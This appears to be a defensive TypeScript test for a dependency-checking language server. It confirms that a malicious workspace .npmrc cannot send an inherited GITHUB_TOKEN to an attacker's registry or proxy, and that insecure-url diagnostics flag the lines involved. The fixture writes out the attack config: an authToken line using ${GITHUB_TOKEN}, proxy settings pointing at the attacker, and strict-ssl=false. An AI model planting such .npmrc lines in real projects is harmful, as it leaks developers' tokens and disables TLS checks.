/**
 * Issue #10 rows 3 and 4 in the language server (dist/server.js over stdio, as the editor
 * runs it): a workspace `.npmrc` that names an attacker's registry with `${GITHUB_TOKEN}`
 * and points the proxy at the attacker gets neither the secret nor a connection, and the
 * `.npmrc` lines that ask for it carry insecure-url diagnostics. Servers on 127.0.0.1.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { LspTestClient, uriOf } from '../support/lsp-client';
import { startFakeRegistry } from '../support/fake-registry';
import { startTestProxy } from '../support/test-proxy';
import { npmLockText } from '../support/fixtures';

const SECRET = 'ghp_EDITORsecretEDITORsecret0123';

test('a workspace .npmrc cannot send the environment\'s token to its registry nor route lookups through its proxy', async (t) => {
  const [attacker, proxy] = await Promise.all([startFakeRegistry(), startTestProxy()]);
  attacker.addPackage('left-pad', { versions: { '1.3.0': { repository: 'github:a/b' } } });
  const host = new URL(attacker.url).host;

  const dir = mkdtempSync(path.join(tmpdir(), 'depwarden-lsp-npmrc-'));
  const home = mkdtempSync(path.join(tmpdir(), 'depwarden-lsp-home-'));
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'left-pad': '1.3.0' } }, null, 2));
  writeFileSync(path.join(dir, 'package-lock.json'), npmLockText({ 'left-pad': '1.3.0' }));
  const npmrc = [`registry=${attacker.url}`, `//${host}/:_authToken=\${GITHUB_TOKEN}`, `https-proxy=${proxy.url}`, `proxy=${proxy.url}`, 'strict-ssl=false', ''].join('\n');
  writeFileSync(path.join(dir, '.npmrc'), npmrc);
  writeFileSync(path.join(home, 'user.npmrc'), '');

  // The server inherits this environment, as the editor's extension host hands it on.
  process.env.GITHUB_TOKEN = SECRET;
  process.env.NPM_CONFIG_USERCONFIG = path.join(home, 'user.npmrc');
  process.env.NPM_CONFIG_GLOBALCONFIG = path.join(home, 'no-global.npmrc');
  for (const k of ['HTTPS_PROXY', 'https_proxy', 'HTTP_PROXY', 'http_proxy', 'NO_PROXY', 'no_proxy']) delete process.env[k];

  const client = new LspTestClient();
  client.settings = { offline: false, advisories: { enabled: false }, debounceMs: 20 };
  t.after(async () => {
    await client.shutdown();
    await Promise.all([attacker.close(), proxy.close()]);
    rmSync(dir, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
  });
  await client.initialize(dir);

  // The registry lookups are over when the status stops saying so.
  await client.waitFor(
    () => attacker.requestsFor('left-pad').length > 0 && client.statuses.some((s) => !(s as { lookingUp?: boolean }).lookingUp),
    'the lookup at the registry the workspace names',
    30000,
  );
  const seen = attacker.requestsFor('left-pad');
  assert.deepEqual(seen.map((r) => r.headers.authorization), seen.map(() => undefined), 'an Authorization header reached the attacker');
  assert.ok(!JSON.stringify(attacker.requests).includes(SECRET), 'the secret reached the attacker');
  assert.deepEqual(proxy.log, [], 'the workspace proxy got a connection');

  const npmrcUri = uriOf(path.join(dir, '.npmrc'));
  const diagnostics = await client.waitFor(() => {
    const d = client.diagnostics.get(npmrcUri) ?? [];
    return d.length >= 3 ? d : undefined;
  }, 'insecure-url diagnostics on .npmrc');
  assert.deepEqual(
    diagnostics.map((d) => [d.code, d.range.start.line]).sort(),
    [
      ['insecure-url', 2],
      ['insecure-url', 3],
      ['insecure-url', 4],
    ],
  );
  assert.match(diagnostics.find((d) => d.range.start.line === 4)!.message, /turns off TLS certificate checks/);
});
